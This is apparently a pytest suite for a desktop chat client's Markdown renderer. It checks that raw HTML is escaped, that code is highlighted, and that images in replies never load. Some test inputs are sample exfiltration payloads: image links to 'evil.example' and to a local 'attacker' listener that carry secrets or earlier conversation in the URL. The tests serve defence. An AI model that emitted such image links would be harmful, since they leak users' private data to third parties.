"""Markdown rendering of replies: raw HTML stays text, images never load (C12)."""

from __future__ import annotations

import math
import socket
from collections.abc import Iterator

import pytest
from PySide6.QtCore import Qt, QUrl
from PySide6.QtWidgets import QApplication, QVBoxLayout, QWidget
from pytestqt.qtbot import QtBot

from ui.chatview import ChatView
from ui.rendering import (
    COPY_SCHEME,
    IMAGE_SCHEME,
    code_key,
    image_host,
    image_key,
    render_markdown,
    render_plain,
)
from ui.textview import RichTextView
from ui.turns import Turn, TurnStatus
from ui.turnwidget import TurnWidget


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A loopback port that counts as "the attacker's host"."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    try:
        yield server
    finally:
        server.close()


def _connections(server: socket.socket) -> int:
    count = 0
    while True:
        try:
            client, _ = server.accept()
        except BlockingIOError:
            return count
        client.close()
        count += 1


def test_raw_html_in_a_reply_is_shown_as_text() -> None:
    html = render_markdown('<b>bold</b> <img src="http://x.test/a.png"> <script>')
    assert "<b>" not in html and "<img" not in html and "<script" not in html
    assert "&lt;b&gt;bold&lt;/b&gt;" in html


def test_markdown_is_rendered_with_highlighted_code() -> None:
    source = "Some **bold** text.\n\n```python\ndef f():\n    pass\n```\n"
    html = render_markdown(source)
    assert "<strong>bold</strong>" in html
    assert "<pre" in html and "def" in html
    assert 'style="color' in html  # Pygments inline colours
    assert ">python<" in html  # language label


def test_unknown_code_language_is_escaped_not_dropped() -> None:
    html = render_markdown("```nolang\n<a> & b\n```\n")
    assert "&lt;a&gt; &amp; b" in html


def test_image_becomes_a_placeholder_naming_its_host_C12() -> None:
    html = render_markdown(
        "![chart](https://evil.example/p.png?q=my+secret+plans) done")
    assert "<img" not in html
    assert "chart: image from evil.example, not loaded" in html
    src = "https://evil.example/p.png?q=my+secret+plans"
    # The placeholder's link can only ask to load, never open the URL.
    assert f'href="{IMAGE_SCHEME}:{image_key(src)}"' in html
    assert "secret+plans" not in html
    assert image_host("data:image/png;base64,AAAA") == "embedded data"


def test_user_prompt_is_shown_exactly_as_typed() -> None:
    html = render_plain("a <b>b</b>\n  c")
    assert "&lt;b&gt;" in html and "pre-wrap" in html


def test_rendering_a_reply_with_an_image_makes_no_request_C12(
    qtbot: QtBot, qapp: QApplication, listener: socket.socket,
) -> None:
    port = listener.getsockname()[1]
    url = f"http://127.0.0.1:{port}/pixel.png?leak=earlier+conversation"
    turn = Turn(1, "hi", text=f"Look: ![x]({url})\n\n<img src=\"{url}\">",
                status=TurnStatus.DONE)
    widget = TurnWidget(turn)
    qtbot.addWidget(widget)
    widget.show()
    qapp.processEvents()

    assert "image from 127.0.0.1, not loaded" in widget.body.toPlainText()
    assert _connections(listener) == 0


def test_text_view_refuses_every_resource_C12(
    qtbot: QtBot, qapp: QApplication, listener: socket.socket,
) -> None:
    port = listener.getsockname()[1]
    view = RichTextView()
    qtbot.addWidget(view)
    view.show_html(f'<p>x</p><img src="http://127.0.0.1:{port}/a.png">')
    view.show()
    qapp.processEvents()

    assert view.refused, "the image was never asked for"
    assert {(u.host(), u.port()) for u in view.refused} == {("127.0.0.1", port)}
    assert _connections(listener) == 0


def test_text_view_is_see_through_by_the_chat_views_sheet(
    qtbot: QtBot, app: QApplication,
) -> None:
    # The card or bubble shows through every message view; the rule lives
    # in the chat view's sheet, not in one sheet per view (cheaper to build).
    chat = ChatView({}.__getitem__)
    qtbot.addWidget(chat)
    view = RichTextView(chat.widget())
    view.ensurePolished()

    assert view.styleSheet() == ""
    assert view.palette().base().style() is Qt.BrushStyle.NoBrush
    assert not view.viewport().autoFillBackground()


def test_text_view_is_laid_out_at_the_width_it_is_shown_at(
    qtbot: QtBot, app: QApplication,
) -> None:
    page = QWidget()
    qtbot.addWidget(page)
    column = QVBoxLayout(page)
    view = RichTextView(page)
    column.addWidget(view)
    untouched = view.document().textWidth()
    view.show_html("<p>" + "word " * 200 + "</p>")
    # Not at Qt's default width first: that layout would be thrown away.
    assert view.document().textWidth() == untouched

    page.resize(400, 600)
    page.show()
    app.processEvents()

    assert view.document().textWidth() == view.viewport().width() > 300
    assert view.height() == math.ceil(view.document().size().height())
    assert view.height() > 3 * view.fontMetrics().height()


def test_copy_code_link_copies_that_block(qtbot: QtBot, qapp: QApplication) -> None:
    second = "for i in range(3):\n    print(i)"
    text = f"Two blocks.\n\n```python\nx = 1\n```\n\n```python\n{second}\n```\n"
    turn = Turn(1, "hi", text=text, status=TurnStatus.DONE)
    widget = TurnWidget(turn)
    qtbot.addWidget(widget)
    said: list[str] = []
    widget.statusMessage.connect(said.append)
    assert render_markdown(text).count(f"{COPY_SCHEME}:") == 2

    link = QUrl(f"{COPY_SCHEME}:{code_key(second)}")
    widget.body.views()[-1].anchorClicked.emit(link)
    assert QApplication.clipboard().text() == second
    assert said == ["Code copied"]
